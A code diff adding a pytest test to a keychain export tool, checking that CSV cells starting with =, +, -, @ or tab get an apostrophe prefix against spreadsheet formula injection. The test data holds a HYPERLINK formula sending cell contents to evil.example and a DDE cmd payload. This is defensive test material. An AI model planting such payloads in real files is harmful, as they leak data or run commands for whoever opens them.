@@ -227,3 +227,31 @@ def test_a_failed_write_is_an_error_and_leaves_no_file(source, tmp_path, fault):
     result = source.run(["export", "--with-secrets", "-o", path], fault=fault)
     assert_failure(result, "errSecIO")
     assert not path.exists()
+
+
+FORMULAS = {"service": '=HYPERLINK("http://evil.example/?"&A1,"x")', "account": "=1+2", "comment": "@SUM(1)",
+            "label": "-2+3", "description": "+1", "generic": "\tcmd"}
+
+
+def test_csv_cells_a_spreadsheet_reads_as_formulas_are_guarded_and_round_trip(kc_ready, target, tmp_path):
+    """Security review L6: a cell beginning with =, +, -, @, tab or CR (an attribute or, with
+    --with-secrets, a password) is written with a leading apostrophe, so a spreadsheet shows it as
+    text; kc's own CSV import takes the apostrophe off again, and an apostrophe kc did not add stays."""
+    import csv
+    import io
+    kc = kc_ready
+    kc.add_generic(FORMULAS["service"], FORMULAS["account"], "=cmd|' /C calc'!A0", "-j", FORMULAS["comment"],
+                   "--label=" + FORMULAS["label"], "--description=" + FORMULAS["description"], "-G", FORMULAS["generic"])
+    kc.add_generic("'=quoted already", "'plain", "-pw")
+    path = tmp_path / "export.csv"
+    kc.ok(["export", "--format", "csv", "--with-secrets", "-o", path])
+    rows = list(csv.DictReader(io.StringIO(path.read_text(), newline="")))
+    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row.values()), rows
+    row = next(row for row in rows if row["account"] == "'=1+2")
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+    assert row["password"] == "'=cmd|' /C calc'!A0"
+    other = next(row for row in rows if row["account"] == "'plain")
+    assert (other["service"], other["password"]) == ("''=quoted already", "'-pw")
+    target.ok(["import", "csv", path])
+    assert dump(target) == dump(kc)
+    assert exported(target) == exported(kc)
